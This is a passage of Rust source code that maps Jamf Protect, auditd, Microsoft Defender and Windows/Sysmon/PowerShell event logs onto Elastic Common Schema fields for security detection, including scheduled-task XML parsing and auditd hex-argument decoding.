            edr::with_branches(argv(me).as_deref(), others.iter().map(String::as_str))
    {
        set_path(&mut e, "process.command_line", s(&all));
    }
    if let Some(uid) = me.get("uid") {
        set_path(&mut e, "user.id", s(&uid.to_string()));
    }
    if let Some(n) = user_name(me.get("uid")) {
        set_path(&mut e, "user.name", n);
    }
    if let Some(h) = obj.get("host") {
        if let Some(n) = h.get("hostname").or_else(|| h.get("name")) {
            set_path(&mut e, "host.name", n.clone());
        }
        if let Some(v) = h.get("os").filter(|v| v.is_string()) {
            set_path(&mut e, "host.os.name", v.clone());
        }
        if let Some(ips) = h.get("ips") {
            set_path(&mut e, "host.ip", ips.clone());
        }
    }
    set_path(&mut e, "host.os.type", s("macos"));
    set_path(&mut e, "event.category", serde_json::json!(["process"]));
    let mut techniques = Vec::new();
    if let Some(Json::Array(tags)) = m.get("tags") {
        for t in tags.iter().filter_map(Json::as_str) {
            let t = t.to_uppercase();
            if crate::load::is_technique(&t) {
                push_unique(&mut techniques, &t);
            }
        }
    }
    if !techniques.is_empty() {
        set_path(&mut e, "threat.technique.id", serde_json::json!(techniques));
    }
    if let Some(n) = m
        .get("facts")
        .and_then(Json::as_array)
        .and_then(|f| f.first())
        .and_then(|f| f.get("name"))
    {
        set_path(&mut e, "rule.name", n.clone());
    }
    // A threat signature's verdict: what Jamf matched the file against, and that it blocked it.
    if let Some(t) = ev.get("matchType").and_then(Json::as_str) {
        set_path(&mut e, "rule.category", s(t));
    }
    if let Some(v) = ev.get("matchValue").and_then(Json::as_str) {
        set_path(&mut e, "threat.indicator.name", s(v));
    }
    if ev.get("blocked").and_then(Json::as_bool) == Some(true) {
        set_path(&mut e, "event.outcome", s("blocked"));
    }
    if let Some(t) = m
        .get("event")
        .and_then(|ev| ev.get("timestamp"))
        .and_then(Json::as_f64)
        .and_then(|t| chrono::DateTime::from_timestamp(t as i64, 0))
    {
        e.insert("@timestamp".into(), s(&t.to_rfc3339()));
    }
    let id = m.get("uuid").and_then(Json::as_str).map(str::to_owned);
    e.insert("jamf_protect".into(), Json::Object(outer.clone()));
    Some((e, id))
}

pub(crate) fn basename_of(path: &str) -> &str {
    path.rsplit(['/', '\\']).next().unwrap_or(path)
}

/// A command line's program: its first word, unquoted.
/// Whether a program's path or name is a shell or script interpreter (`bash`, `cmd.exe`,
/// `python3.11`, `osascript` …), for readers choosing which of several processes is the event's.
pub(crate) fn is_interpreter_name(path: &str) -> bool {
    let n = basename_of(path).to_ascii_lowercase();
    let n = n.strip_suffix(".exe").unwrap_or(&n);
    [
        "sh",
        "bash",
        "dash",
        "zsh",
        "ksh",
        "fish",
        "cmd",
        "wscript",
        "cscript",
        "mshta",
        "osascript",
        "node",
    ]
    .contains(&n)
        || ["powershell", "pwsh", "python", "perl", "ruby", "php"]
            .iter()
            .any(|p| n.starts_with(p))
}

pub(crate) fn program(cmd: &str) -> &str {
    let c = cmd.trim_start();
    match c.strip_prefix('"') {
        Some(rest) => rest.split('"').next().unwrap_or(rest),
        None => c.split_whitespace().next().unwrap_or(c),
    }
}

/// A job cron started: cron runs the command through `sh -c`, as the job's user.
pub(crate) fn cron_job(e: &mut Map<String, Json>, cmd: &str, user: Option<Json>) {
    set_path(e, "process.command_line", s(&format!("/bin/sh -c {cmd}")));
    set_path(e, "process.executable", s("/bin/sh"));
    set_path(e, "process.name", s("sh"));
    set_path(e, "process.parent.name", s("cron"));
    if let Some(u) = user {
        set_path(e, "user.name", u);
    }
}

/// auditd writes an argument holding spaces, quotes or control characters as bare hex
/// (`a2=6563686F20...`). Such an argument is decoded; a real hex argument (a hash, a key) stays,
/// because it decodes to binary or to text auditd would not have encoded.
/// One audit event of a text log (its SYSCALL record and the records after it with the same
/// serial: EXECVE, CWD, PATH), its fields as `key=value` (quotes removed).
struct AuditEvent<'a> {
    serial: String,
    fields: Vec<(&'a str, &'a str)>,
}

impl<'a> AuditEvent<'a> {
    /// The first value of `key` in the event (the SYSCALL record's before the EXECVE's: an
    /// EXECVE's `a0` is the argument, the SYSCALL's `a0` a register, so arguments are read
    /// after `argc`).
    fn field(&self, key: &str) -> Option<&'a str> {
        let argument =
            key.len() > 1 && key.starts_with('a') && key[1..].bytes().all(|b| b.is_ascii_digit());
        let from = if argument {
            self.fields.iter().position(|(k, _)| *k == "argc")?
        } else {
            0
        };
        self.fields[from..]
            .iter()
            .find(|(k, _)| *k == key)
            .map(|(_, v)| *v)
            .filter(|v| !v.is_empty())
    }
}

/// The events of an auditd text log, in order, grouped by serial (`msg=audit(TIME:SERIAL)`).
fn audit_events(log: &str) -> Vec<AuditEvent<'_>> {
    let mut out: Vec<AuditEvent<'_>> = Vec::new();
    for rec in log.split("type=").skip(1) {
        let Some(serial) = rec
            .split_once("msg=audit(")
            .and_then(|(_, r)| r.split_once(')'))
            .and_then(|(m, _)| m.rsplit_once(':'))
            .map(|(_, s)| s.to_owned())
        else {
            continue;
        };
        let mut fields = Vec::new();
        let mut rest = rec;
        while let Some(eq) = rest.find('=') {
            let key = rest[..eq].rsplit([' ', ':']).next().unwrap_or_default();
            let after = &rest[eq + 1..];
            let (value, tail) = match after.strip_prefix('"') {
                Some(q) => q.split_once('"').unwrap_or((q, "")),
                None => {
                    let end = after.find(' ').unwrap_or(after.len());
                    (&after[..end], &after[end..])
                }
            };
            if !key.is_empty() {
                fields.push((key, value));
            }
            rest = tail;
        }
        match out.last_mut() {
            Some(last) if last.serial == serial => last.fields.extend(fields),
            _ => out.push(AuditEvent { serial, fields }),
        }
    }
    out
}

pub(crate) fn auditd_arg(v: String) -> String {
    if v.len() < 4 || !v.len().is_multiple_of(2) || !v.bytes().all(|b| b.is_ascii_hexdigit()) {
        return v;
    }
    let bytes: Option<Vec<u8>> = (0..v.len())
        .step_by(2)
        .map(|i| u8::from_str_radix(&v[i..i + 2], 16).ok())
        .collect();
    match bytes.and_then(|b| String::from_utf8(b).ok()) {
        Some(t)
            if t.chars()
                .any(|c| c == ' ' || c == '"' || c == '\t' || c == '\n')
                && t.chars().all(|c| !c.is_control() || c == '\t' || c == '\n') =>
        {
            t
        }
        _ => v,
    }
}

/// A Defender advanced hunting row: its own column names, no ECS `process` object.
fn defender_row(ecs: &Map<String, Json>) -> bool {
    !ecs.contains_key("process")
        && ecs.contains_key("DeviceName")
        && [
            "ProcessCommandLine",
            "InitiatingProcessCommandLine",
            "InitiatingProcessFileName",
        ]
        .iter()
        .any(|k| ecs.contains_key(*k))
}

/// Defender advanced hunting columns onto ECS (the columns stay, for playbooks that want them).
/// The acting process of a DeviceProcessEvents row is the created one (`FileName`, started by
/// `InitiatingProcess*`); on other tables it is the initiating process itself.
fn defender(ecs: &mut Map<String, Json>, id: &mut Option<String>) {
    let row = ecs.clone();
    let text = |k: &str| match row.get(k) {
        Some(Json::String(v)) if !v.is_empty() => Some(v.clone()),
        Some(Json::Number(n)) => Some(n.to_string()),
        _ => None,
    };
    // FolderPath usually holds the whole path; join the file name when it is only the folder.
    let full = |folder: Option<String>, file: Option<String>| match (folder, file) {
        (Some(d), Some(f)) if !d.to_lowercase().ends_with(&f.to_lowercase()) => {
            let sep = if d.contains('\\') { '\\' } else { '/' };
            Some(format!("{}{sep}{f}", d.trim_end_matches(['\\', '/'])))
        }
        (d, _) => d,
    };
    // A process row: its command line, or a created process whose command line is empty (a
    // binary run with no arguments, no initiating process recorded).
    let process_event = text("ProcessCommandLine").is_some()
        || (row.contains_key("ProcessCommandLine")
            && (text("ActionType").as_deref() == Some("ProcessCreated")
                || text("InitiatingProcessFileName").is_none())
            && (text("FolderPath").is_some() || text("FileName").is_some()));
    let mut set = |path: &str, v: Option<String>| {
        if let Some(v) = v {
            set_path(ecs, path, Json::String(v));
        }
    };
    let (me, parent) = if process_event {
        ("", "InitiatingProcess")
    } else {
        ("InitiatingProcess", "InitiatingProcessParent")
    };
    set(
        "process.command_line",
        text(&format!("{me}ProcessCommandLine")).or_else(|| {
            if process_event {
                None
            } else {
                text("InitiatingProcessCommandLine")
            }
        }),
    );
    set(
        "process.executable",
        full(
            text(&format!("{me}FolderPath")),
            text(&format!("{me}FileName")),
        ),
    );
    set("process.name", text(&format!("{me}FileName")));
    set(
        "process.pe.original_file_name",
        text(if process_event {
            "ProcessVersionInfoOriginalFileName"
        } else {
            "InitiatingProcessVersionInfoOriginalFileName"
        }),
    );
    set(
        "process.integrity_level",
        text(&format!("{me}ProcessIntegrityLevel")).filter(|l| !l.is_empty()),
    );
    set("process.hash.sha256", text(&format!("{me}SHA256")));
    set("process.hash.sha1", text(&format!("{me}SHA1")));
    set("process.hash.md5", text(&format!("{me}MD5")));
    set(
        "process.parent.executable",
        full(
            text(&format!("{parent}FolderPath")),
            text(&format!("{parent}FileName")),
        ),
    );
    set("process.parent.name", text(&format!("{parent}FileName")));
    set(
        "process.parent.command_line",
        text(&format!("{parent}CommandLine")),
    );
    // An AlertEvidence row's process entity (`AdditionalFields`, JSON text) names the parent
    // the row's own columns do not.
    if text(&format!("{parent}FileName")).is_none()
        && text(&format!("{parent}FolderPath")).is_none()
        && let Some(Json::Object(extra)) =
            text("AdditionalFields").and_then(|a| serde_json::from_str::<Json>(&a).ok())
        && let Some(pp) = extra.get("ParentProcess")
    {
        let img = pp.get("ImageFile");
        let field = |o: Option<&Json>, k: &str| {
            o.and_then(|o| o.get(k))
                .and_then(Json::as_str)
                .filter(|v| !v.is_empty())
                .map(str::to_owned)
        };
        let exe = full(field(img, "DirectoryPath"), field(img, "FileName"));
        let named = exe.is_some();
        set("process.parent.executable", exe);
        if named {
            set("process.parent.name", field(img, "FileName"));
        } else {
            // (or flat: the parent's `FileName` and `ProcessCommandLine` on the entity)
            set("process.parent.name", field(Some(pp), "FileName"));
        }
        set(
            "process.parent.command_line",
            field(Some(pp), "CommandLine").or_else(|| field(Some(pp), "ProcessCommandLine")),
        );
        if let Some(gp) = extra.get("GrandParentProcess").filter(|g| g.is_object()) {
            set(
                "process.parent.parent.name",
                field(gp.get("ImageFile"), "FileName").or_else(|| field(Some(gp), "FileName")),
            );
            set(
                "process.parent.parent.command_line",
                field(Some(gp), "CommandLine").or_else(|| field(Some(gp), "ProcessCommandLine")),
            );
        }
        let beside = |k: &str| {
            extra
                .get(k)
                .and_then(Json::as_str)
                .filter(|v| !v.is_empty())
                .map(str::to_owned)
        };
        // (or the parent given by name, its command line and grandparent beside it)
        if let Some(name) = pp.as_str().filter(|n| !n.is_empty()) {
            set("process.parent.name", Some(name.to_owned()));
            set(
                "process.parent.command_line",
                beside("ParentProcessCommandLine"),
            );
            set("process.parent.parent.name", beside("GrandParentProcess"));
        }
        // The account's logon kind (`LogonType: Network`, a remote session).
        set("winlog.logon.type", beside("LogonType"));
    }
    // On a process-creation row, the initiating process's own parent and working directory.
    if process_event {
        set(
            "process.parent.parent.name",
            text("InitiatingProcessParentFileName"),
        );
        set(
            "process.parent.working_directory",
            text("InitiatingProcessCurrentDirectory"),
        );
        set("process.working_directory", text("ProcessCurrentDirectory"));
    }
    let (user, domain, sid) = if process_event {
        ("AccountName", "AccountDomain", "AccountSid")
    } else {
        (
            "InitiatingProcessAccountName",
            "InitiatingProcessAccountDomain",
            "InitiatingProcessAccountSid",
        )
    };
    set(
        "user.name",
        text(user).or_else(|| text("InitiatingProcessAccountName")),
    );
    set("user.domain", text(domain));
    set("user.id", text(sid));
    set("host.name", text("DeviceName"));
    set("@timestamp", text("Timestamp"));
    set("destination.ip", text("RemoteIP"));
    set("url.full", text("RemoteUrl").filter(|u| u.contains("://")));
    set(
        "destination.domain",
        text("RemoteUrl").filter(|u| !u.contains("://")),
    );
    let pid = |k: &str| {
        row.get(k)
            .and_then(|v| v.as_i64().or_else(|| v.as_str()?.parse().ok()))
    };
    let (pid_col, ppid_col) = if process_event {
        ("ProcessId", "InitiatingProcessId")
    } else {
        ("InitiatingProcessId", "InitiatingProcessParentId")
    };
    if let Some(p) = pid(pid_col) {
        set_path(ecs, "process.pid", Json::from(p));
    }
    if let Some(p) = pid(ppid_col) {
        set_path(ecs, "process.parent.pid", Json::from(p));
    }
    if let Some(p) = row.get("RemotePort").and_then(|v| v.as_i64()) {
        set_path(ecs, "destination.port", Json::from(p));
    }
    if process_event {
        set_path(ecs, "event.category", serde_json::json!(["process"]));
        set_path(ecs, "event.type", serde_json::json!(["start"]));
    } else if let Some(f) = full(text("FolderPath"), text("FileName")) {
        // File and image-load rows: the file written or the library loaded.
        set_path(ecs, "file.path", Json::String(f));
        if let Some(n) = text("FileName") {
            set_path(ecs, "file.name", Json::String(n));
        }
    }
    if let Some(a) = text("ActionType") {
        set_path(ecs, "event.action", Json::String(a));
    }
    if id.is_none() {
        *id = match (text("DeviceId"), text("ReportId")) {
            (Some(d), Some(r)) => Some(format!("{d}:{r}")),
            (None, Some(r)) => Some(r),
            _ => None,
        };
    }
}

/// A classic PowerShell engine event's detail: its own field (`HostApplication`), else the
/// `Key=Value` line of that name in the rendered message or the event's `Data`.
fn engine_detail(o: &Map<String, Json>, k: &str) -> Option<String> {
    if let Some(Json::String(v)) = o.get(k)
        && !v.is_empty()
    {
        return Some(v.clone());
    }
    let mut texts: Vec<&str> = o
        .get("Message")
        .and_then(Json::as_str)
        .into_iter()
        .collect();
    if let Some(Json::Array(a)) = o.get("Data") {
        texts.extend(a.iter().filter_map(Json::as_str));
    }
    texts.iter().flat_map(|t| t.lines()).find_map(|l| {
        let v = l.trim().strip_prefix(k)?.strip_prefix('=')?.trim();
        (!v.is_empty()).then(|| v.to_owned())
    })
}

pub(crate) fn push_unique(v: &mut Vec<String>, s: &str) {
    if !v.iter().any(|x| x == s) {
        v.push(s.to_owned());
    }
}

fn collect_techniques(v: Option<&Json>, out: &mut Vec<String>) {
    match v {
        Some(Json::Array(a)) => a.iter().for_each(|x| collect_techniques(Some(x), out)),
        Some(Json::Object(o)) => {
            if let Some(Json::String(id)) = o.get("id")
                && crate::load::is_technique(id)
            {
                push_unique(out, id);
            }
            for k in ["technique", "subtechnique"] {
                collect_techniques(o.get(k), out);
            }
        }
        _ => {}
    }
}

pub(crate) fn s(v: &str) -> Json {
    Json::String(v.to_owned())
}

/// Flat Windows event (NXLog/Logstash field names) to ECS.
pub(crate) fn windows_flat(o: &Map<String, Json>) -> Map<String, Json> {
    let mut e = Map::new();
    let get = |k: &str| -> Option<String> {
        match o.get(k) {
            Some(Json::String(v)) if !v.is_empty() && v != "-" => Some(v.clone()),
            Some(Json::Number(n)) => Some(n.to_string()),
            Some(Json::Bool(b)) => Some(b.to_string()),
            _ => None,
        }
    };
    let eid: i64 = get("EventID")
        .or_else(|| get("EventId"))
        .or_else(|| get("event_id"))
        .and_then(|v| v.parse().ok())
        .unwrap_or(0);
    let channel = get("Channel").unwrap_or_default();
    let provider = get("SourceName")
        .or_else(|| get("ProviderName"))
        .unwrap_or_default();
    let sysmon = channel.contains("Sysmon") || provider.contains("Sysmon");
    let set = |e: &mut Map<String, Json>, path: &str, v: Option<String>| {
        if let Some(v) = v {
            set_path(e, path, Json::String(v));
        }
    };
    set(
        &mut e,
        "@timestamp",
        get("@timestamp")
            .or_else(|| get("TimeCreated"))
            .or_else(|| get("UtcTime"))
            .or_else(|| get("EventTime")),
    );
    set(&mut e, "event.code", Some(eid.to_string()));
    set(
        &mut e,
        "event.provider",
        (!provider.is_empty()).then(|| provider.clone()),
    );
    set(
        &mut e,
        "event.module",
        Some(if sysmon {
            "sysmon".into()
        } else if channel.contains("PowerShell") || provider.contains("PowerShell") {
            "powershell".into()
        } else {
            "security".into()
        }),
    );
    set(
        &mut e,
        "winlog.channel",
        (!channel.is_empty()).then(|| channel.clone()),
    );
    set(&mut e, "winlog.record_id", get("RecordNumber"));
    set(
        &mut e,
        "host.name",
        get("Hostname").or_else(|| get("Computer")),
    );
    // Sysmon for Linux ships the same event shape with Linux paths.
    let os = if channel.starts_with("Linux-")
        || provider.starts_with("Linux-")
        || get("Image").is_some_and(|i| i.starts_with('/'))
    {
        "linux"
    } else {
        "windows"
    };
    set_path(&mut e, "host.os.type", s(os));
    set_path(&mut e, "host.os.family", s(os));

    // The user the activity ran as.
    let user = get("User")
        .or_else(|| match (get("TargetUserName"), get("SubjectUserName")) {
            (Some(t), _) if eid == 4688 => Some(match get("TargetDomainName") {
                Some(d) => format!("{d}\\{t}"),
                None => t,
            }),
            (_, Some(su)) if matches!(eid, 4688 | 4698 | 4702) => {
                Some(match get("SubjectDomainName") {
                    Some(d) => format!("{d}\\{su}"),
                    None => su,
                })
            }
            _ if !sysmon => get("AccountName").map(|a| match get("Domain") {
                Some(d) => format!("{d}\\{a}"),
                None => a,
            }),
            _ => None,
        })
        // Splunk's CIM field, when the event's own fields name nobody (a 4104 script block
        // names only the SID).
        .or_else(|| get("user"));
    if let Some(u) = user {
        match u.split_once('\\') {
            Some((d, n)) => {
                set_path(&mut e, "user.domain", s(d));
                set_path(&mut e, "user.name", s(n));
            }
            None => set_path(&mut e, "user.name", s(&u)),
        }
    }
    if eid == 4688 {
        set(
            &mut e,
            "user.id",
            get("TargetUserSid")
                .filter(|x| x != "S-1-0-0")
                .or_else(|| get("SubjectUserSid")),
        );
    } else if !sysmon {
        set(&mut e, "user.id", get("UserID"));
    }

    let hex_or_dec = |v: Option<String>| -> Option<Json> {
        let v = v?;
        let n = if let Some(h) = v.strip_prefix("0x") {
            i64::from_str_radix(h, 16).ok()?
        } else {
            v.parse().ok()?
        };
        Some(Json::from(n))
    };
    match eid {
        1 | 4688 => {
            set_path(&mut e, "event.category", serde_json::json!(["process"]));
            set_path(&mut e, "event.type", serde_json::json!(["start"]));
            set(
                &mut e,
                "process.executable",
                get("Image").or_else(|| get("NewProcessName")),
            );
            set(&mut e, "process.command_line", get("CommandLine"));
            set(&mut e, "process.working_directory", get("CurrentDirectory"));
            set(&mut e, "process.entity_id", get("ProcessGuid"));
            set(
                &mut e,
                "process.pe.original_file_name",
                get("OriginalFileName"),
            );
            set(&mut e, "process.pe.description", get("Description"));
            set(
                &mut e,
                "process.parent.executable",
                get("ParentImage").or_else(|| get("ParentProcessName")),
            );
            set(
                &mut e,
                "process.parent.command_line",
                get("ParentCommandLine"),
            );
            set(&mut e, "process.parent.entity_id", get("ParentProcessGuid"));
            // Sysmon writes the parent's whole argv, its program's name first: an empty one
            // (beside a known parent program) is a parent started with no arguments at all.
            if sysmon
                && eid == 1
                && o.get("ParentCommandLine").and_then(Json::as_str) == Some("")
                && get("ParentImage").is_some()
            {
                set_path(&mut e, "process.parent.args_count", Json::from(0));
            }
            if eid == 1 {
                if let Some(p) = hex_or_dec(get("ProcessId")) {
                    set_path(&mut e, "process.pid", p);
                }
                if let Some(p) = hex_or_dec(get("ParentProcessId")) {
                    set_path(&mut e, "process.parent.pid", p);
                }
                set(&mut e, "process.integrity_level", get("IntegrityLevel"));
            } else {
                if let Some(p) = hex_or_dec(get("NewProcessId")) {
                    set_path(&mut e, "process.pid", p);
                }
                if let Some(p) = hex_or_dec(get("ProcessId")) {
                    set_path(&mut e, "process.parent.pid", p);
                }
                // The label's SID, or its rendering ("Mandatory Label\\High Mandatory Level").
                let il = get("MandatoryLabel").map(|l| match l.as_str() {
                    "S-1-16-4096" => "Low".to_owned(),
                    "S-1-16-8192" => "Medium".to_owned(),
                    "S-1-16-12288" => "High".to_owned(),
                    "S-1-16-16384" => "System".to_owned(),
                    other => ["Low", "Medium", "High", "System"]
                        .into_iter()
                        .find(|w| other.ends_with(&format!("{w} Mandatory Level")))
                        .map_or_else(|| other.to_owned(), str::to_owned),
                });
                // Without the label, the token's elevation type: a UAC-elevated token (type 2,
                // `%%1937`) runs at High integrity, a filtered one (type 3, `%%1938`) at Medium.
                // Type 1 (`%%1936`, no split token: services, the built-in administrator) says
                // nothing on its own.
                let il = il.or_else(|| {
                    let t = get("TokenElevationType")?;
                    let t = t.to_ascii_lowercase();
                    if t == "%%1937" || t.contains("typefull") || t.trim() == "2" {
                        Some("High".to_owned())
                    } else if t == "%%1938" || t.contains("typelimited") || t.trim() == "3" {
                        Some("Medium".to_owned())
                    } else {
                        None
                    }
                });
                set(&mut e, "process.integrity_level", il);
            }
            if let Some(h) = get("Hashes") {
                for part in h.split(',') {
                    if let Some((k, v)) = part.split_once('=') {
                        let k = k.trim().to_ascii_lowercase();
                        if matches!(k.as_str(), "md5" | "sha1" | "sha256" | "imphash") {
                            set_path(
                                &mut e,
                                &format!("process.hash.{k}"),
                                s(&v.trim().to_ascii_lowercase()),
                            );
                        }
                    }
                }
            }
        }
        3 => {
            set_path(&mut e, "event.category", serde_json::json!(["network"]));
            set_path(&mut e, "event.type", serde_json::json!(["connection"]));
            set(&mut e, "process.executable", get("Image"));
            set(&mut e, "process.entity_id", get("ProcessGuid"));
            if let Some(p) = hex_or_dec(get("ProcessId")) {
                set_path(&mut e, "process.pid", p);
            }
            set(&mut e, "destination.ip", get("DestinationIp"));
            set(&mut e, "destination.domain", get("DestinationHostname"));
            if let Some(p) = hex_or_dec(get("DestinationPort")) {
                set_path(&mut e, "destination.port", p);
            }
            set(&mut e, "source.ip", get("SourceIp"));
            if let Some(p) = hex_or_dec(get("SourcePort")) {
                set_path(&mut e, "source.port", p);
            }
            set(&mut e, "network.transport", get("Protocol"));
            let init = get("Initiated").map(|v| v.eq_ignore_ascii_case("true"));
            if let Some(i) = init {
                set_path(
                    &mut e,
                    "network.direction",
                    s(if i { "egress" } else { "ingress" }),
                );
            }
        }
        22 => {
            set_path(&mut e, "event.category", serde_json::json!(["network"]));
            set_path(&mut e, "event.type", serde_json::json!(["info"]));
            set_path(&mut e, "network.protocol", s("dns"));
            set(&mut e, "process.executable", get("Image"));
            set(&mut e, "process.entity_id", get("ProcessGuid"));
            if let Some(p) = hex_or_dec(get("ProcessId")) {
                set_path(&mut e, "process.pid", p);
            }
            set(&mut e, "dns.question.name", get("QueryName"));
            if let Some(r) = get("QueryResults") {
                let ips: Vec<Json> = r
                    .split(';')
                    .map(|x| x.trim().trim_start_matches("::ffff:"))
                    .filter(|x| funcs::is_ip(x))
                    .map(s)
                    .collect();
                if !ips.is_empty() {
                    set_path(&mut e, "dns.resolved_ip", Json::Array(ips));
                }
            }
        }
        11 | 23 | 26 => {
            set_path(&mut e, "event.category", serde_json::json!(["file"]));
            set_path(
                &mut e,
                "event.type",
                serde_json::json!([if eid == 11 { "creation" } else { "deletion" }]),
            );
            set(&mut e, "process.executable", get("Image"));
            set(&mut e, "process.entity_id", get("ProcessGuid"));
            if let Some(p) = get("TargetFilename") {
                set_path(&mut e, "file.name", s(funcs::basename(&p)));
                set_path(&mut e, "file.path", s(&p));
            }
        }
        // An image (DLL) loaded into the process: the library is the file.
        7 => {
            set_path(&mut e, "event.category", serde_json::json!(["library"]));
            set_path(&mut e, "event.action", s("ImageLoaded"));
            set(&mut e, "process.executable", get("Image"));
            set(&mut e, "process.entity_id", get("ProcessGuid"));
            if let Some(p) = get("ImageLoaded") {
                set_path(&mut e, "file.name", s(funcs::basename(&p)));
                set_path(&mut e, "file.path", s(&p));
            }
        }
        // A scheduled task registered or changed: what it will run (its first `<Exec>` action)
        // is the process to judge; the task's name and XML stay in `winlog.event_data`.
        4698 | 4702 => {
            set_path(&mut e, "event.category", serde_json::json!(["process"]));
            set_path(&mut e, "event.type", serde_json::json!(["creation"]));
            set_path(
                &mut e,
                "event.action",
                s(if eid == 4698 {
                    "scheduled-task-created"
                } else {
                    "scheduled-task-updated"
                }),
            );
            if let Some((cmd, args)) = get("TaskContent").as_deref().and_then(task_exec) {
                let line = match (cmd.contains(' ') && !cmd.starts_with('"'), args.is_empty()) {
                    (true, true) => format!("\"{cmd}\""),
                    (true, false) => format!("\"{cmd}\" {args}"),
                    (false, true) => cmd.clone(),
                    (false, false) => format!("{cmd} {args}"),
                };
                set_path(&mut e, "process.executable", s(cmd.trim_matches('"')));
                set_path(&mut e, "process.command_line", s(&line));
            }
        }
        // A service installed (System 7045, Security 4697): the command it will run as
        // Sysmon's WMI consumer registered (20): a CommandLineEventConsumer's command
        // (`Destination`) is what the subscription will run — the process to judge.
        20 if get("Type").is_some_and(|t| t.trim().eq_ignore_ascii_case("command line")) => {
            if let Some(cmd) = get("Destination") {
                let cmd = cmd.trim().trim_matches('"').trim().to_owned();
                let exe = program(&cmd);
                set_path(&mut e, "event.category", serde_json::json!(["process"]));
                set_path(&mut e, "event.type", serde_json::json!(["creation"]));
                set_path(&mut e, "event.action", s("wmi-consumer-created"));
                set_path(&mut e, "process.executable", s(exe));
                set_path(&mut e, "process.command_line", s(&cmd));
                set(
                    &mut e,
                    "wmi.consumer.name",
                    get("Name").map(|n| n.trim().trim_matches('"').to_owned()),
                );
                set(&mut e, "wmi.consumer.creator", get("User"));
            }
        }
        // services.exe's child is the process to judge (`%COMSPEC%` is cmd.exe).
        7045 | 4697 => {
            if let Some(cmd) = get("ImagePath").or_else(|| get("ServiceFileName")) {
                let cmd = if cmd.len() >= 9 && cmd[..9].eq_ignore_ascii_case("%comspec%") {
                    format!("C:\\Windows\\System32\\cmd.exe{}", &cmd[9..])
                } else {
                    cmd
                };
                let exe = program(&cmd);
                set_path(&mut e, "event.category", serde_json::json!(["process"]));
                set_path(&mut e, "event.type", serde_json::json!(["creation"]));
                set_path(&mut e, "event.action", s("service-installed"));
                set_path(&mut e, "process.executable", s(exe));
                set_path(&mut e, "process.command_line", s(&cmd));
                set_path(&mut e, "process.parent.name", s("services.exe"));
                set(&mut e, "service.name", get("ServiceName"));
            }
        }
        4104 => {
            set_path(&mut e, "event.category", serde_json::json!(["process"]));
            set_path(&mut e, "event.type", serde_json::json!(["info"]));
            set(
                &mut e,
                "powershell.file.script_block_text",
                get("ScriptBlockText"),
            );
            set(
                &mut e,
                "powershell.file.script_block_id",
                get("ScriptBlockId"),
            );
            set(&mut e, "file.path", get("Path"));
            if let Some(n) = hex_or_dec(get("MessageNumber")) {
                set_path(&mut e, "powershell.sequence", n);
            }
            if let Some(n) = hex_or_dec(get("MessageTotal")) {
                set_path(&mut e, "powershell.total", n);
            }
        }
        // Windows PowerShell's classic engine and provider events: the host application is
        // the command line that started the engine, and the engine's version shows a
        // downgrade to 2.0 (no AMSI, no script-block logging).
        // NXLog ships their details only inside the rendered `Message` (and `Data`), as
        // `\tHostApplication=…` lines.
        400 | 403 | 600 if engine_detail(o, "HostApplication").is_some() => {
            set_path(&mut e, "event.category", serde_json::json!(["process"]));
            set_path(&mut e, "event.type", serde_json::json!(["info"]));
            set(
                &mut e,
                "process.command_line",
                engine_detail(o, "HostApplication"),
            );
            set(
                &mut e,
                "powershell.engine.version",
                engine_detail(o, "EngineVersion"),
            );
        }
        4103 | 800 => {
            set_path(&mut e, "event.category", serde_json::json!(["process"]));
            set_path(&mut e, "event.type", serde_json::json!(["info"]));
            if let Some(p) = get("Payload") {
                if let Some(name) = p
                    .strip_prefix("CommandInvocation(")
                    .and_then(|r| r.split(')').next())
                {
                    set_path(&mut e, "powershell.command.name", s(name));
                }
                set_path(&mut e, "powershell.command.invocation_details", s(&p));
            }
            if let Some(ci) = get("ContextInfo") {
                for line in ci.lines() {
                    if let Some((k, v)) = line.split_once('=') {
                        match k.trim() {
                            "Host Application" => {
                                set_path(&mut e, "process.command_line", s(v.trim()))
                            }
                            "Script Name" if !v.trim().is_empty() => {
                                set_path(&mut e, "file.path", s(v.trim()))
                            }
                            "User" if get("AccountName").is_none() => {
                                if let Some((d, n)) = v.trim().split_once('\\') {
                                    set_path(&mut e, "user.domain", s(d));
                                    set_path(&mut e, "user.name", s(n));
                                }
                            }
                            _ => {}
                        }
                    }
                }
            }
        }
        _ => {}
    }
    // Keep every original field, as winlogbeat does, so playbooks can reach anything.
    let mut ed = Map::new();
    for (k, v) in o {
        if !matches!(
            k.as_str(),
            "Message" | "tags" | "@version" | "port" | "host"
        ) {
            ed.insert(k.clone(), v.clone());
        }
    }
    // sysmon-modular and similar configurations name the technique in the rule:
    // `RuleName: technique_id=T1059.001,technique_name=PowerShell`.
    if let Some(rule) = get("RuleName") {
        let ids: Vec<String> = rule
            .split([',', ' ', ';', '='])
            .map(|t| t.trim().to_ascii_uppercase())
            .filter(|t| crate::load::is_technique(t))
            .collect();
        if !ids.is_empty() {
            set_path(&mut e, "threat.technique.id", serde_json::json!(ids));
        }
    }
    set_path(&mut e, "winlog.event_id", Json::from(eid));
    set_path(&mut e, "winlog.event_data", Json::Object(ed));
    if let Some(m) = get("Message") {
        set_path(&mut e, "message", s(&m));
    }
    e
}

/// XML's character entities read back (`&amp;` last, so `&amp;lt;` stays `&lt;`).
pub(crate) fn xml_unescape(v: &str) -> String {
    if !v.contains('&') {
        return v.to_owned();
    }
    // Numeric references (`&#x9;`, `&#13;`) first, then the named ones, `&amp;` last.
    let mut out = String::with_capacity(v.len());
    let mut rest = v;
    while let Some(i) = rest.find("&#") {
        out.push_str(&rest[..i]);
        let tail = &rest[i + 2..];
        let decoded = tail.split_once(';').and_then(|(num, after)| {
            let code = match num.strip_prefix(['x', 'X']) {
                Some(hex) => u32::from_str_radix(hex, 16).ok()?,
                None => num.parse().ok()?,
            };
            Some((char::from_u32(code)?, after))
        });
        match decoded {
            Some((c, after)) => {
                out.push(c);
                rest = after;
            }
            None => {
                out.push_str("&#");
                rest = tail;
            }
        }
    }
    out.push_str(rest);
    out.replace("&quot;", "\"")
        .replace("&apos;", "'")
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&amp;", "&")
}

/// The first `<Exec>` action of a scheduled task's XML: its command and arguments, with the
/// XML's character entities read back.
fn task_exec(xml: &str) -> Option<(String, String)> {
    let exec = &xml[xml.find("<Exec>")?..];
    let exec = &exec[..exec.find("</Exec>").unwrap_or(exec.len())];
    let inner = |tag: &str| -> Option<String> {
        let open = format!("<{tag}>");
        let start = exec.find(&open)? + open.len();
